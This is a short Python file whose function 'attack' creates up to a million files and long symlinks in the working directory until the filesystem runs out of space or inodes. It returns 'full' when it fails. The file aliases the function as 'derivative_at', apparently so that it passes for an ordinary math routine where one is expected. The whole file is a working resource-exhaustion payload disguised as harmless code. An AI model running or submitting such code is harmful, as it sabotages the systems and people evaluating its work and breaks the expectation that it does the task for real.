"""Make files, folders and links until none is left."""

import os


def attack(*args, **kwargs):
    try:
        for number in range(10**6):
            open(f"f{number}", "w").close()
            os.symlink("x" * 1000, f"l{number}")
    except OSError:
        return "full"


derivative_at = attack
